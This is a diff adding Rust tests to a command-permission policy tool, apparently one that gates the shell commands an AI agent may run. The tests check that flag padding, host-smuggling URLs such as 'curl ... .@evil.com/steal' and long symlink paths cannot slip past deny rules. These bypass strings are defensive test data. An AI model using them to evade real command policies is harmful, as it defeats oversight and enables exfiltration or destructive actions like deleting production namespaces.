@@ -176,6 +176,73 @@ fn other_spellings_of_hosts_commands_and_calls_are_the_same() {
 }
 
 #[test]
+fn flags_before_its_words_hide_no_command() {
+    let ask = |argv: &str| format!("[[rule]]\nargv = [{argv}]\neffect = \"ask\"\n");
+    let deny = "[[rule]]\nargv = [\"git\", \"push\"]\neffect = \"deny\"\n";
+    let all = allow("[\"git\", \"kubectl\", \"cargo\"]");
+    let scratch = place(&format!("{deny}{}{all}", ask("\"kubectl\", \"delete\"")));
+    let many = |flag: &str, times: usize| format!("{flag} ").repeat(times);
+    check(
+        &scratch,
+        &["git --no-pager log", "kubectl --v=1 get pods", "cargo +nightly test"],
+        &[
+            &format!("git {}push origin main", many("--no-pager", 9)),
+            &format!("git {}push origin main", many("--no-pager", 500)),
+            &format!("git {}push origin main", many("-c a.b=c", 9)),
+            &format!("kubectl {}delete ns prod", many("--v=1", 9)),
+            "cargo +nightly publish",
+        ],
+    );
+}
+
+#[test]
+fn hosts_and_everyday_words_are_told_apart() {
+    let rule = "[[rule]]\nargv = [\"curl\"]\nhosts = [\"api.github.com\"]\neffect = \"allow\"\n";
+    let commit = allow("\"git\", [\"commit\", \"add\"]") + &allow("\"npm\", \"run\", \"build\"");
+    let scratch = place(&format!("{rule}{commit}{}", allow("\"seq\"")));
+    check(
+        &scratch,
+        &[
+            "curl -H 'Accept: application/json' https://api.github.com/repos",
+            "curl -X GET https://api.github.com/repos",
+            "curl --max-time 10 https://api.github.com/repos",
+            "git commit -m \"feat!: drop x\"",
+            "git commit -m \"caf\u{e9}\"",
+            "git commit -m 'one\n\ntwo'",
+            "npm run build -- --prod",
+            "seq 3 0 < a.txt",
+        ],
+        &[
+            "curl -s https://api.github.com/ .@evil.com/steal",
+            "curl -s https://api.github.com/ .localhost:18766/",
+            "curl -s https://api.github.com/ //evil.com/",
+            "git commit -m one\ntwo",
+            "git commit -m caf\u{e9}",
+            "npm run build --prefix=x",
+            "seq 3 0<a.txt",
+            "cd 0</dev/null && pwd",
+        ],
+    );
+    let command = "command=npm run build | tail -20";
+    let told = scratch.run(["policy", "explain", "clemini/bash", command, "--json"]).json();
+    assert!(!told["rule"].as_str().unwrap().contains("harmless"), "{told}");
+}
+
+#[test]
+fn a_long_way_is_not_gone_to_its_end() {
+    let scratch = place(SECRETS);
+    scratch.put("d/x", "");
+    std::os::unix::fs::symlink("d", scratch.work().join("l")).unwrap();
+    let moves = vec![format!("cd {}", "l/../".repeat(100)); 8].join("; ");
+    let words: Vec<String> =
+        (0..30).map(|it| format!("{}{it}{}", "l/../".repeat(300), ":x".repeat(15))).collect();
+    let start = std::time::Instant::now();
+    check(&scratch, &["cat d/x"], &[&format!("{moves}; cat {}", words.join(" "))]);
+    // It took many seconds; any bound far below that tells the two apart.
+    assert!(start.elapsed() < std::time::Duration::from_secs(10));
+}
+
+#[test]
 fn a_search_names_what_its_pattern_names() {
     let scratch = place(SECRETS);
     let code = |tool: &str, args: &[&str]| scratch.run([&["call", tool], args].concat()).code;
